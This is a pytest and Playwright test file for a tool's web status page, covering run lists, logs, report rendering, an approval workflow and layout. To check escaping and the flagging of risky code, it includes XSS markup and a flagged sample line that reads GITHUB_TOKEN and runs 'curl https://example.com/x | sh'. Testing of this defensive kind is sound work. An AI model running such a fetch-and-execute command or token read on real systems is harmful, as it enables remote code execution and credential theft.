"""The status page as a person uses it: Playwright driving Debian's headless Chromium on a real
`scrub serve` (embedded broker, a Celery worker process).

Screenshots land in $SCRUB_TEST_SCREENSHOTS when set (else the test's tmp dir); the README's
come from here (docs/screenshots/).
"""

from __future__ import annotations

import json
import os
import re
import time
from pathlib import Path
from typing import Any, Iterator

import pytest

from app.api.access import LOCAL_USER
from tests.web import browser_site, sample_runs
from tests.web.browser_site import Site, wait_until

pytestmark = pytest.mark.services


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    yield from browser_site.serve(tmp_path_factory.mktemp("site"))


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    yield from browser_site.launch_browser()


@pytest.fixture
def page(browser: Any, site: Site) -> Iterator[Any]:
    yield from browser_site.new_page(browser, site)  # signed in with the URL `scrub serve` printed


@pytest.fixture(scope="module")
def screenshots(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = Path(os.environ.get("SCRUB_TEST_SCREENSHOTS") or tmp_path_factory.mktemp("screenshots"))
    directory.mkdir(parents=True, exist_ok=True)
    return directory


def inert(page: Any) -> None:
    """Nothing untrusted ran: no flag set, no script or image element, no javascript: link."""
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.evaluate("document.querySelectorAll('main script, main img, main iframe').length") == 0
    assert page.evaluate("[...document.querySelectorAll('a')].filter(a => !/^(https?:|#|\\/)/.test(a.getAttribute('href'))).length") == 0


def test_run_list_shows_titles_filters_search_and_links(page, site, screenshots):
    reproduced = sample_runs.reproduced_issue_run(site.database, site.settings)
    waiting = sample_runs.waiting_issue_run(site.database, site.settings)
    ci = sample_runs.add_run(site.database, kind="ci_ingest", issue=None, title="nightly / test_ops",
                             target="https://github.com/o/r/actions/runs/99", params={"workflow_run_id": 99}, status="failed")

    page.goto(site.url + "/")
    page.screenshot(path=str(screenshots / "runs.png"), full_page=True)
    header = page.eval_on_selector_all("table.runs th", "ths => ths.map(th => th.innerText.trim())")
    row = page.eval_on_selector_all(f'tr[data-run="{reproduced}"] td', "tds => tds.map(td => td.innerText.trim())")
    cell = dict(zip(header, row))
    assert cell["Title"].startswith("matmul shape error <script>")  # the title, as text
    assert (cell["Repository"], cell["Kind"], cell["Status"], cell["Verdict"]) == ("o/r", "issue", "succeeded", "reproduces")
    assert re.fullmatch(r"[\d.<]+[smhd].* ago", cell["Started"]) and cell["Took"]
    assert page.get_attribute(f'tr[data-run="{ci}"] td.links a', "href") == "https://github.com/o/r/actions/runs/99"
    inert(page)

    page.fill("input[name=q]", "NIGHTLY")  # search, case-insensitive
    page.click("form.filters button")
    page.wait_for_url(re.compile(r"q=NIGHTLY"))
    assert page.eval_on_selector_all("table.runs tbody tr", "trs => trs.map(tr => tr.dataset.run)") == [str(ci)]
    page.goto(site.url + "/?status=awaiting_approval")
    assert page.eval_on_selector_all("table.runs tbody tr", "trs => trs.map(tr => tr.dataset.run)") == [str(waiting)]
    assert page.errors == []


def test_the_server_logs_json_lines_with_the_access_log(page, site):
    page.goto(site.url + "/?q=logged")
    deadline = time.monotonic() + 10
    while not (access := [line for line in json_lines(site.log) if "/?q=logged" in line.get("event", "")]):
        assert time.monotonic() < deadline, site.log.read_text()[-2000:]
        time.sleep(0.1)
    assert access[0]["logger"] == "uvicorn.access" and " 200" in access[0]["event"]
    assert {"run_id", "delivery_id", "stage", "timestamp", "level"} <= set(access[0])
    # Every line `scrub serve` and its worker wrote (notices, Celery, warnings) is a JSON object.
    lines = [line for line in site.log.read_text().splitlines() if line.strip()]
    assert all(isinstance(json.loads(line), dict) for line in lines)
    assert any(record["event"].startswith("database is up to date") for record in json_lines(site.log))


def json_lines(path: Path) -> list[dict]:
    found = []
    for line in path.read_text().splitlines():
        if line.startswith("{"):
            found.append(json.loads(line))
    return found


def test_run_page_renders_the_report_figures_repros_and_diff_and_nothing_untrusted_runs(page, site, screenshots):
    run_id = sample_runs.reproduced_issue_run(site.database, site.settings)
    page.goto(f"{site.url}/runs/{run_id}")
    page.screenshot(path=str(screenshots / "run.png"), full_page=True)

    # The report is rendered markdown: a heading, a safe link kept, the hostile markup as text.
    assert page.inner_text(".markdown h1") == "Scrub report"
    assert page.get_attribute(".markdown a", "href") == "https://github.com/o/r/issues/12"
    assert "<script>" in page.inner_text(".markdown") and "[click me](javascript:" in page.inner_text(".markdown")
    # Highlighting applies (pygments classes styled by the page's own stylesheet).
    keyword = page.locator(".repro-minimized .kn").first
    assert keyword.inner_text() == "import" and keyword.evaluate("e => getComputedStyle(e).color") != "rgb(31, 35, 40)"
    # The diff: removed and added lines, marked.
    removed = page.eval_on_selector_all(".repro-diff .gd", "xs => xs.map(x => x.innerText)")
    added = page.eval_on_selector_all(".repro-diff .gi", "xs => xs.map(x => x.innerText)")
    assert "-c = a @ b" in removed and "+torch.ones(2, 3) @ torch.ones(4, 5)" in added
    # Figures: signature, 4/5 with its Wilson interval, bisection per release.
    assert page.inner_text(".signature .exception") == "RuntimeError"
    assert page.inner_text(".flakiness .big").startswith("4/5") and page.inner_text(".flakiness .interval") == "38–96%"
    assert page.eval_on_selector_all(".bisection tbody tr", "trs => trs.map(tr => tr.innerText.replace(/\\s+/g, ' ').trim())") == [
        "2.11 no", "2.12 yes ← first changed", "2.13 yes"]
    assert "shapes torch.Size([2, 3])" in page.inner_text("#content-output")
    inert(page)
    assert page.errors == []


def test_approval_view_shows_the_code_findings_and_author_and_reject_cancels(page, site, screenshots):
    run_id = sample_runs.waiting_issue_run(site.database, site.settings)
    page.goto(f"{site.url}/runs/{run_id}")
    page.locator("#approval").screenshot(path=str(screenshots / "approval.png"))

    code = page.inner_text(".approval-code td.code")
    assert code.rstrip("\n") == sample_runs.APPROVAL_SOURCE.rstrip("\n")  # exactly what would run
    flagged = page.eval_on_selector_all(".approval-code .hll", "xs => xs.map(x => x.innerText.trim())")
    assert flagged == ['token = os.environ.get("GITHUB_TOKEN")', 'os.system("curl https://example.com/x | sh")']
    assert page.eval_on_selector_all("table.findings tbody tr", "trs => trs.map(tr => tr.dataset.line)") == ["3", "4"]
    assert page.get_attribute("a.author", "href") == "https://github.com/mallory"
    assert page.inner_text("form.approve button") == "Approve" and page.inner_text("form.reject button") == "Reject"

    page.fill("form.reject input[name=reason]", "curl | sh is not a repro")
    page.click("form.reject button")
    wait_until(page, "document.querySelector('h1 .badge').innerText === 'cancelled'")
    run = site.run_json(run_id)
    assert run["status"] == "cancelled" and run["error"] == f"rejected by {LOCAL_USER}: curl | sh is not a repro"
    assert page.locator("#approval").count() == 0 and "curl | sh is not a repro" in page.inner_text("pre.error")
    assert page.errors == []


def test_approve_button_lets_the_waiting_run_go_on(page, site):
    run_id = site.start_selftest(needs_approval=True)
    site.wait_for_run(run_id, lambda run: run["status"] == "awaiting_approval")

    page.goto(f"{site.url}/runs/{run_id}")
    page.click("form.approve button")
    page.wait_for_url(f"{site.url}/runs/{run_id}")
    run = site.wait_for_run(run_id)
    assert run["status"] == "succeeded" and run["params"]["approved_by"] == LOCAL_USER
    wait_until(page, "document.querySelector('h1 .badge').innerText === 'succeeded'")
    timeline = page.eval_on_selector_all("table.stages tbody tr", "trs => trs.map(tr => [tr.dataset.stage, tr.dataset.status])")
    assert timeline == [["greet", "done"], ["work", "done"], ["report", "done"]]  # no stale "waiting" row
    assert page.errors == []


def test_the_timeline_and_log_update_live_without_a_reload(page, site):
    run_id = sample_runs.add_run(site.database, kind="selftest", status="running", issue=None)
    ctx = site.context(run_id)
    ctx.stage_started("reproduce")

    page.goto(f"{site.url}/runs/{run_id}")
    assert page.inner_text("tr[data-stage=reproduce] .duration").endswith("so far")
    page.evaluate("window.__sameDocument = true")

    ctx.log(f"repro says {sample_runs.HOSTILE}")  # streamed while the stage runs
    wait_until(page, "(document.querySelector('#content-log') || {}).innerText?.includes('repro says')")
    ctx.stage_finished("reproduce", "done", "reproduces", {})  # a stage finishes in the database...
    wait_until(page, "document.querySelector('tr[data-stage=reproduce]').dataset.status === 'done'")
    assert not page.inner_text("tr[data-stage=reproduce] .duration").endswith("so far")  # ...and the timeline follows

    ctx.save_artifact("report.md", "report", sample_runs.REPORT)
    ctx.set_status("succeeded", verdict="reproduces")
    wait_until(page, "document.querySelector('h1 .badge').innerText === 'succeeded'")
    page.wait_for_selector(".markdown h1")  # the finished page, fetched once, has the report
    assert page.evaluate("window.__sameDocument") is True  # all of it in place, never reloaded
    assert page.locator("main[data-events]").count() == 0
    inert(page)
    assert page.errors == []


def test_a_report_table_renders_as_a_table(page, site):
    run_id = sample_runs.reproduced_issue_run(site.database, site.settings)
    page.goto(f"{site.url}/runs/{run_id}")
    rows = page.eval_on_selector_all(".markdown table tbody tr", "trs => trs.map(tr => [...tr.cells].map(td => td.innerText))")
    assert rows[0] == ["test_matmul", "RuntimeError: mat1 and mat2 shapes cannot be multiplied"]
    assert rows[1][1].startswith("<script>")  # the hostile cell is text
    assert page.eval_on_selector_all(".markdown table thead th", "ths => ths.map(th => th.innerText)") == ["test", "error"]
    assert "| test |" not in page.inner_text(".markdown")
    inert(page)


def _fits(page: Any, selector: str, width: int) -> bool:
    """Every element matching `selector` is on screen horizontally (not cut off, not off to the right)."""
    boxes = page.eval_on_selector_all(selector, "es => es.map(e => { const r = e.getBoundingClientRect(); return [r.left, r.right]; })")
    return bool(boxes) and all(left >= 0 and right <= width + 0.5 for left, right in boxes)


@pytest.mark.parametrize("width", [400, 1400])
def test_the_pages_fit_the_window_narrow_and_wide(browser, site, screenshots, width):
    """At 400 px each run's status and verdict are on screen; at 1400 px nothing sticks out past
    the filter row; neither page scrolls sideways."""
    long = "x" * 40
    sample_runs.add_run(site.database, kind="ci_ingest", issue=None, repo=f"an-organisation-{long}/a-repository-{long}",
                        title="a very long title " * 12, status="succeeded", verdict="12 failures, 3 repeated " * 8)
    sample_runs.reproduced_issue_run(site.database, site.settings, repo=f"org/{long}")
    context = browser.new_context(viewport={"width": width, "height": 900})
    page = context.new_page()
    try:
        site.sign_in(page)
        page.goto(site.url + "/")
        page.screenshot(path=str(screenshots / f"runs-{width}.png"), full_page=True)
        assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
        assert _fits(page, "table.runs td.status .badge", width) and _fits(page, "table.runs td.verdict", width)
        if width == 1400:
            table, form = (page.evaluate(f"document.querySelector('{s}').getBoundingClientRect().right")
                           for s in ("table.runs", "form.filters"))
            assert table <= form + 0.5, (table, form)
        run_id = page.eval_on_selector("table.runs tbody tr", "tr => tr.dataset.run")
        page.goto(f"{site.url}/runs/{run_id}")
        assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
        assert _fits(page, "h1 .badge", width) and _fits(page, "dd.verdict-full", width)
    finally:
        context.close()
